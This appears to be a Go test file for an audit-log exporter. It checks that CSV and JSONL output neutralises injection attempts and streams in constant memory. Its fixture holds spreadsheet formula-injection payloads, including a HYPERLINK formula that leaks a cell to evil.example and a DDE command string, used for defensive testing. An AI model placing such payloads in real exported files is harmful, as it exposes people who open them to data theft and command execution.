package audit

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"iter"
	"net/netip"
	"runtime"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func events(evs ...Event) iter.Seq2[Event, error] {
	return func(yield func(Event, error) bool) {
		for _, e := range evs {
			if !yield(e, nil) {
				return
			}
		}
	}
}

// hostile is an event whose every free-text field tries CSV formula injection, row
// forging and terminal escapes, as a stored event may if it was written by hand.
func hostile() Event {
	return Event{
		ID: uuid.MustParse("0190a0b1-c2d3-7e4f-8a9b-0c1d2e3f4a5b"), Tenant: testTenant, Seq: 3, Time: testNow,
		Kind: KindChange, Action: "role.update", Outcome: Success,
		Reason:  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		Actor:   Actor{Role: "+cmd|' /C calc'!A0", UserAgent: "-2+3", IP: netip.MustParseAddr("192.0.2.1")},
		Target:  Target{Type: "role", ID: "@SUM(1+1)", Name: "\tTab\r\nsecond,row\"quoted\"\x1b[31m"},
		Changes: []Change{{Field: "name", Old: "a", New: "=1+1"}},
		Details: map[string]string{"note": "\rfirst", "ok": "plain"},
		Hash:    []byte{0xde, 0xad},
		KeyID:   7,
	}
}

func TestExportCSVIsInjectionSafe(t *testing.T) {
	var buf bytes.Buffer
	n, err := ExportCSV(context.Background(), &buf, events(hostile(), goldenEvent()))
	require.NoError(t, err)
	assert.Equal(t, 2, n)
	assert.Equal(t, 3, strings.Count(buf.String(), "\n"), "a header and one line per event: nothing forged a row")
	for _, r := range buf.String() {
		if r != '\n' {
			assert.False(t, r < 0x20 || r == 0x7f, "control character %U in the CSV", r)
		}
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	assert.Equal(t, CSVHeader, rows[0])
	col := func(row []string, name string) string {
		for i, h := range CSVHeader {
			if h == name {
				return row[i]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	r := rows[1]
	assert.Equal(t, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", col(r, "reason"))
	assert.Equal(t, "'+cmd|' /C calc'!A0", col(r, "actor_role"))
	assert.Equal(t, "'-2+3", col(r, "actor_user_agent"))
	assert.Equal(t, "'@SUM(1+1)", col(r, "target_id"))
	assert.Equal(t, `\x09Tab\x0d\x0asecond,row"quoted"\x1b[31m`, col(r, "target_name"), "escaped: it no longer starts with a tab")
	assert.Equal(t, `[{"field":"name","old":"a","new":"=1+1"}]`, col(r, "changes"), "JSON starts with [, not a formula")
	assert.Equal(t, `{"note":"\\x0dfirst","ok":"plain"}`, col(r, "details"))
	assert.Equal(t, "3", col(r, "seq"))
	assert.Equal(t, "2025-03-14T15:09:26.535897Z", col(r, "time"))
	assert.Equal(t, "192.0.2.1", col(r, "actor_ip"))
	assert.Equal(t, "dead", col(r, "hash"))
	assert.Equal(t, "7", col(r, "key_id"), "the key ID an external verifier needs")
	assert.Equal(t, "", col(rows[2], "key_id"), "an event not chained has none")
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "column %s starts with a formula character", CSVHeader[i])
			}
		}
	}
}

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "plain": "plain", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x",
		"\tx": `\x09x`, "\rx": `\x0dx`, "a=b": "a=b", `back\slash`: `back\slash`,
	} {
		assert.Equal(t, want, CSVSafe(in), "%q", in)
	}
}

func TestExportJSONLIsOneLinePerEvent(t *testing.T) {
	var buf bytes.Buffer
	h := hostile()
	h.Target.Name += "\u2028\u2029\xff"
	n, err := ExportJSONL(context.Background(), &buf, events(h, goldenEvent()))
	require.NoError(t, err)
	assert.Equal(t, 2, n)
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	require.Len(t, lines, 2)
	assert.NotContains(t, buf.String(), "\u2028")
	assert.NotContains(t, buf.String(), "\r")
	var got map[string]any
	require.NoError(t, json.Unmarshal([]byte(lines[0]), &got))
	assert.Equal(t, h.ID.String(), got["id"])
	assert.Equal(t, "2025-03-14T15:09:26.535897Z", got["time"])
	assert.Equal(t, float64(3), got["seq"])
	assert.Equal(t, float64(7), got["key_id"])
	assert.Equal(t, Clean(h.Target.Name), got["target"].(map[string]any)["name"])
	require.NoError(t, json.Unmarshal([]byte(lines[1]), &got))
	assert.Equal(t, map[string]any{"browser": "Firefox", "url": "/login"}, got["details"])
	assert.Equal(t, []any{
		map[string]any{"field": "name", "old": "a", "new": "b"},
		map[string]any{"field": "password", "old": "", "new": "", "redacted": true},
	}, got["changes"])
}

func TestExportStopsAtTheFirstError(t *testing.T) {
	boom := errors.New("store down")
	failing := func(yield func(Event, error) bool) {
		if yield(goldenEvent(), nil) {
			yield(Event{}, boom)
		}
	}
	for name, export := range map[string]func(context.Context, io.Writer, iter.Seq2[Event, error]) (int, error){
		"csv": ExportCSV, "jsonl": ExportJSONL,
	} {
		var buf bytes.Buffer
		n, err := export(context.Background(), &buf, failing)
		assert.ErrorIs(t, err, boom, name)
		assert.Equal(t, 1, n, name)
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		_, err = export(ctx, &buf, events(goldenEvent()))
		assert.ErrorIs(t, err, context.Canceled, name)
	}
}

// countWriter counts bytes and discards them.
type countWriter struct{ n int64 }

func (w *countWriter) Write(p []byte) (int, error) { w.n += int64(len(p)); return len(p), nil }

// TestExportStreamsInConstantMemory exports 300,000 events, generated one at a time,
// and checks that the heap does not grow with the number exported: the exporters hold
// one event at a time.
func TestExportStreamsInConstantMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("exports 300,000 events")
	}
	const n = 300_000
	for name, export := range map[string]func(context.Context, io.Writer, iter.Seq2[Event, error]) (int, error){
		"csv": ExportCSV, "jsonl": ExportJSONL,
	} {
		var heap [2]uint64
		gen := func(yield func(Event, error) bool) {
			e := goldenEvent()
			for i := range n {
				if i == n/10 || i == n-1 {
					runtime.GC()
					var ms runtime.MemStats
					runtime.ReadMemStats(&ms)
					heap[min(i/(n/2), 1)] = ms.HeapAlloc
				}
				e.Seq = int64(i + 1)
				e.Details = map[string]string{"url": fmt.Sprintf("/api/calls/%d", i)}
				if !yield(e, nil) {
					return
				}
			}
		}
		w := &countWriter{}
		got, err := export(context.Background(), w, gen)
		require.NoError(t, err)
		assert.Equal(t, n, got)
		assert.Greater(t, w.n, int64(n*200), "%s: the output is large", name)
		growth := int64(heap[1]) - int64(heap[0])
		t.Logf("%s: %d MB written, heap %d KB after 10%%, %d KB at the end", name, w.n>>20, heap[0]>>10, heap[1]>>10)
		assert.Less(t, growth, int64(4<<20), "%s: the heap grew by %d bytes while exporting", name, growth)
	}
}

func BenchmarkExportCSV(b *testing.B) {
	e := goldenEvent()
	b.ReportAllocs()
	for b.Loop() {
		_, _ = ExportCSV(context.Background(), io.Discard, events(e))
	}
}
